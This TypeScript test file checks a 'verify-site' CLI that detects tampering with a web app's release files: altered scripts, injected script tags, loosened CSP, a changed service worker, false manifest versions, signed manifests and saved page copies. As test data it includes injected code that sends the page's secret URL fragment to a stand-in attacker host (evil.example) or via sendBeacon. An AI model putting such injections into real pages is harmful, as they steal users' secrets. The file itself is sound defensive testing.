import assert from 'node:assert/strict';
import { generateKeyPairSync } from 'node:crypto';
import { existsSync } from 'node:fs';
import { readFile, rm, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { SITE_MANIFEST_PATH } from '../../src/domain/site-manifest.js';
import { MANIFEST_FILE } from '../../src/release/build-manifest.js';
import { signManifest } from '../../src/release/sign-manifest.js';
import { type AlteringProxy, startAlteringProxy } from '../support/altering-proxy.js';
import { startCli } from '../support/cli.js';
import { freePort, type RunningServer, startServer, tempDir } from '../support/server.js';

/**
 * `webfolder verify-site` (the real CLI, a child process) against a real instance, straight and
 * through a proxy that alters what it passes on: the main script, the page (an added script), the
 * service worker, the manifest's version. And a person's saved copy of the page, and a manifest
 * given on the command line with its signature.
 */
const built = existsSync(MANIFEST_FILE);
if (!built) process.stderr.write('test/release: skipping: no site manifest (npm run build)\n');

const verify = (...args: string[]) => startCli(['verify-site', ...args], {}).done;

describe('verify-site', { skip: !built && 'npm run build first' }, () => {
  let server: RunningServer;
  let proxy: AlteringProxy;
  let dir: string;
  let manifest: { files: { path: string; kind: string }[] };
  before(async () => {
    dir = await tempDir('webfolder-verify-site-');
    manifest = JSON.parse(await readFile(MANIFEST_FILE, 'utf8'));
    // The proxy alters only what the test asks for; everything else passes as it is.
    proxy = await startAlteringProxy(() => true);
    server = await startServer({ BASE_URL: proxy.url });
    proxy.upstream = `http://127.0.0.1:${addressPort(server)}`;
  });
  after(async () => {
    await proxy?.close();
    await server?.close();
    if (dir) await rm(dir, { recursive: true, force: true });
  });

  test('an instance serving the release passes, through a proxy that changes nothing', async () => {
    proxy.alter = () => null;
    const run = await verify(proxy.url);
    assert.equal(run.code, 0, run.stdout + run.stderr);
    assert.match(run.stdout, /^OK: \d+ files and pages match the release$/m);
    assert.match(run.stdout, /trusted manifest: the installed package/);
    // And the instance's own address, and a folder's link (its site), and JSON.
    const json = await verify(`${proxy.url}/f/AbCdEfGhIjKl#secret`, '--json');
    assert.equal(json.code, 0, json.stderr);
    const report = JSON.parse(json.stdout);
    assert.equal(report.ok, true);
    assert.equal(report.site, proxy.url);
    assert.ok(report.checked >= manifest.files.length + 5);
    assert.ok(!json.stdout.includes('secret'), 'the fragment is never printed');
  });

  test('an address where nothing answers is exit 4, not a list of missing files', async () => {
    const run = await verify(`http://127.0.0.1:${await freePort()}`);
    assert.equal(run.code, 4, run.stdout + run.stderr);
    assert.equal(run.stdout, '');
  });

  test('a script altered on the way is caught', async () => {
    const main = manifest.files.find((f) => f.kind === 'script' && /\/assets\/index-.*\.js$/.test(f.path))!;
    proxy.alter = (body, path) =>
      path === main.path ? Buffer.concat([body, Buffer.from(';fetch("https://evil.example/"+location.hash);')]) : null;
    const run = await verify(proxy.url);
    assert.equal(run.code, 1, run.stdout + run.stderr);
    assert.match(
      run.stdout,
      new RegExp(`^MISMATCH web ${pattern(main.path)}: sha256 [0-9a-f]{64}, the release's is`, 'm'),
    );
    assert.match(run.stdout, /^FAILED: 1 finding in/m);
    assert.deepEqual([...new Set(proxy.altered)], [main.path]);
  });

  test('a page that adds a script is caught: the page differs and the script is no file of the release', async () => {
    proxy.altered.length = 0;
    proxy.alter = (body, path) => {
      const text = body.toString('utf8');
      if (!text.startsWith('<!doctype html>') || !text.includes('webfolder-config')) return null;
      return Buffer.from(
        text.replace('</head>', `<script src="${path === '/' ? '' : '/'}assets/collect.js"></script></head>`),
      );
    };
    const run = await verify(proxy.url);
    assert.equal(run.code, 1, run.stdout + run.stderr);
    assert.match(run.stdout, /^MISMATCH page \/: the page is not the release's shell \(line \d+: /m);
    assert.match(
      run.stdout,
      /^EXTRA +page \/: script http:\/\/127\.0\.0\.1:\d+\/assets\/collect\.js is not in the release$/m,
    );
    assert.match(run.stdout, /^MISMATCH page \/f\/\{folderId\}/m, 'the folder page is checked as well');
  });

  test('a docs page that adds a script, or loosens its CSP, is caught', async () => {
    proxy.alter = (body, path) =>
      path === '/docs/api'
        ? Buffer.from(body.toString('utf8').replace('</head>', '<script src="/assets/collect.js"></script></head>'))
        : null;
    const run = await verify(proxy.url);
    assert.equal(run.code, 1, run.stdout + run.stderr);
    assert.match(
      run.stdout,
      /^EXTRA +docs page \/api: script http:\/\/127\.0\.0\.1:\d+\/assets\/collect\.js is not in the release$/m,
    );
    assert.match(run.stdout, /^FAILED: 1 finding in/m);
  });

  test("a page whose CSP allows more than the release's is caught", async () => {
    proxy.alter = () => null;
    proxy.alterHeaders = (headers, path) => {
      if (path === '/')
        headers['content-security-policy'] = String(headers['content-security-policy']).replace(
          "script-src 'self'",
          "script-src 'self' 'unsafe-inline'",
        );
    };
    try {
      const run = await verify(proxy.url);
      assert.equal(run.code, 1, run.stdout + run.stderr);
      assert.match(
        run.stdout,
        /^POLICY +csp \/: CSP script-src is "'self' 'unsafe-inline'", the release's is 'self'$/m,
      );
      assert.match(run.stdout, /^FAILED: 1 finding in/m);
    } finally {
      proxy.alterHeaders = () => undefined;
    }
  });

  test('a different service worker is caught', async () => {
    proxy.alter = (body, path) =>
      path === '/sw.js' ? Buffer.from(`${body}\nself.addEventListener('fetch',()=>{});`) : null;
    const run = await verify(proxy.url);
    assert.equal(run.code, 1, run.stdout + run.stderr);
    assert.match(run.stdout, /^MISMATCH web \/sw\.js: sha256 /m);
  });

  test("an instance that claims another release needs that release's manifest", async () => {
    proxy.alter = (body, path) =>
      path === SITE_MANIFEST_PATH
        ? Buffer.from(body.toString('utf8').replace(/"version": "[^"]+"/, '"version": "9.9.9"'))
        : null;
    const run = await verify(proxy.url);
    assert.equal(run.code, 2, run.stdout + run.stderr);
    assert.match(
      run.stderr,
      /no trusted manifest for webfolder 9\.9\.9 \(this webfolder is [^)]+\): give the release's manifest with --manifest FILE/,
    );
    // Given the release's own manifest, the served one is the finding.
    const given = await verify(proxy.url, '--manifest', MANIFEST_FILE);
    assert.equal(given.code, 1, given.stdout + given.stderr);
    assert.match(
      given.stdout,
      /^MISMATCH web \/\.well-known\/webfolder\/site-manifest\.json: the instance serves a manifest with sha256 [0-9a-f]{64} \(webfolder 9\.9\.9\)/m,
    );
  });

  test('a manifest given with its signature: trusted with the signing key, refused without it', async () => {
    proxy.alter = () => null;
    const file = join(dir, 'site-manifest.json');
    const bytes = await readFile(MANIFEST_FILE);
    await writeFile(file, bytes);
    const release = generateKeyPairSync('ed25519');
    const signature = signManifest(bytes, release.privateKey.export({ type: 'pkcs8', format: 'pem' }).toString());
    await writeFile(`${file}.sig`, JSON.stringify(signature));
    await writeFile(join(dir, 'release.pub'), release.publicKey.export({ type: 'spki', format: 'pem' }));
    const signed = await verify(proxy.url, '--manifest', file, '--release-key', join(dir, 'release.pub'));
    assert.equal(signed.code, 0, signed.stdout + signed.stderr);
    assert.match(
      signed.stdout,
      new RegExp(`trusted manifest: ${pattern(file)} \\(signed by ${signature.publicKey}\\)`),
    );
    // The same signature without its key trusted, and a signature of other bytes: refused.
    const unknown = await verify(proxy.url, '--manifest', file);
    assert.equal(unknown.code, 2, unknown.stdout + unknown.stderr);
    assert.match(unknown.stderr, /is no valid signature of it by a trusted release key/);
    await writeFile(file, Buffer.concat([bytes, Buffer.from(' ')]));
    const altered = await verify(proxy.url, '--manifest', file, '--release-key', join(dir, 'release.pub'));
    assert.equal(altered.code, 2, altered.stdout + altered.stderr);
  });

  test("a person's saved copy of the page: the release's page passes, one with an added script does not", async () => {
    proxy.alter = () => null;
    const page = await (await fetch(`${proxy.url}/`, { headers: { accept: 'text/html' } })).text();
    const saved = join(dir, 'saved.html');
    await writeFile(saved, page);
    const alone = await verify('--page', saved);
    assert.equal(alone.code, 0, alone.stdout + alone.stderr);
    assert.match(alone.stdout, /^OK: 1 files and pages match the release$/m);
    // A browser's "Web page, complete" writes the page as it stands, its scripts beside it: the
    // scripts must still be the release's files, and nothing may run inline.
    const main = manifest.files.find((f) => f.kind === 'script' && /\/assets\/index-.*\.js$/.test(f.path))!;
    await writeFile(join(dir, 'index.js'), await readFile(join(MANIFEST_FILE, '..', 'web', main.path)));
    const complete = page
      .replace(/src="[^"]*\/assets\/index-[^"]+\.js"/, 'src="index.js"')
      .replace('<main id="main"', '<p>saved</p><main id="main"');
    await writeFile(saved, complete);
    const ok = await verify('--page', saved);
    assert.equal(ok.code, 0, ok.stdout + ok.stderr);
    await writeFile(
      saved,
      complete.replace('</head>', '<script>navigator.sendBeacon("/x", location.hash)</script></head>'),
    );
    const bad = await verify(proxy.url, '--page', saved);
    assert.equal(bad.code, 1, bad.stdout + bad.stderr);
    assert.match(bad.stdout, /^EXTRA +page \(saved copy\): an inline script the release does not have$/m);
    await writeFile(join(dir, 'index.js'), 'alert(1)');
    await writeFile(saved, complete);
    const swapped = await verify('--page', saved);
    assert.equal(swapped.code, 1, swapped.stdout + swapped.stderr);
    assert.match(swapped.stdout, /script index\.js: its saved copy is no file of the release/);
  });
});

function addressPort(running: RunningServer): number {
  const address = running.server.app.server.address();
  assert.ok(address && typeof address === 'object');
  return address.port;
}

function pattern(text: string): string {
  return text.replace(/[.*+?^${}()|[\]\\/]/g, '\\$&');
}
